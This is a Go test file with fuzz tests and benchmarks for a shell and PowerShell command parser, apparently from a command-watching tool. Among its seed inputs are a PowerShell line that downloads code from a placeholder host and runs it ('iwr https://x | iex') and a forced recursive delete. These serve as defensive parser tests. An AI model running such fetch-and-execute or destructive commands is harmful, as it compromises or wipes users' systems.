package shell_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/claudewatch/claudewatch/internal/shell"
)

func FuzzRead(f *testing.F) {
	for _, row := range slices.Concat(hardCaseRows, syntaxRows, wordRows, variableRows, wrapperRows, remoteRows, nestedRows) {
		f.Add(row.text)
	}
	for _, text := range hostile {
		if len(text) < 2000 {
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		start := time.Now()
		effects := shell.Read(text, shell.Context{Dir: "/d", Home: "/h", Wrappers: map[string]int{"w": 1}})
		if took := time.Since(start); took > time.Minute {
			t.Errorf("took %v", took)
		}
		for _, c := range effects.Commands {
			for _, o := range c.Options {
				if o.Index < 0 || o.Index >= len(c.Args) {
					t.Errorf("option %s at %d of %q", o.Name, o.Index, c.Args)
				}
			}
			if c.Dir != "" && !strings.HasPrefix(c.Dir, "/") {
				t.Errorf("relative directory %q", c.Dir)
			}
		}
		for _, s := range effects.Scripts {
			s.Commands()
		}
		if isPlain(text) && effects.Command != text {
			t.Errorf("text without quotes of %q came out as %q", text, effects.Command)
		}
	})
}

// isPlain reports whether Effects.Command must be the text itself.
func isPlain(text string) bool {
	return !strings.ContainsAny(text, "'\"\\$\r") && !strings.HasSuffix(text, "\n")
}

func FuzzReadPowerShell(f *testing.F) {
	f.Add("Remove-Item -Recurse -Force x | Out-File y; git push")
	f.Add("iwr https://x | iex")
	f.Fuzz(func(t *testing.T, text string) {
		shell.ReadPowerShell(text, shell.Context{})
	})
}

func BenchmarkRead(b *testing.B) {
	for name, text := range map[string]string{
		"plain":   "git status",
		"push":    "git push --force origin main",
		"list":    "cd sub && git add -A && git commit -m 'fix: a thing' | cat",
		"heredoc": "git commit -m \"$(cat <<'EOF'\nfix: something\n\nA longer text.\nEOF\n)\"",
		"nested":  "sudo -u bob bash -c 'cd /srv && git pull && systemctl restart app'",
		"python":  "python3 -c \"import os; os.system('ls')\"",
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				read(text)
			}
		})
	}
}
